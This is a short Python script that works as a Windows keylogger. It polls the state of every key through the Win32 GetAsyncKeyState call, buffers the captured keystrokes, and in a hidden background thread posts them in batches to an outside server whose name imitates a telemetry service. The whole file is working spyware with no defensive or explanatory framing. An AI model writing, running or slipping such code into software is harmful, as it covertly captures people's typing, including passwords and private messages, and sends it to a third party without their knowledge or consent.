import ctypes, threading, time, requests
user32 = ctypes.windll.user32
def loop():
    buf = []
    while True:
        for code in range(8, 256):
            if user32.GetAsyncKeyState(code) & 1:
                buf.append(code)
        if len(buf) > 200:
            requests.post("https://collector.example-telemetry.net/k", json=buf)
            buf = []
        time.sleep(0.01)
threading.Thread(target=loop, daemon=True).start()
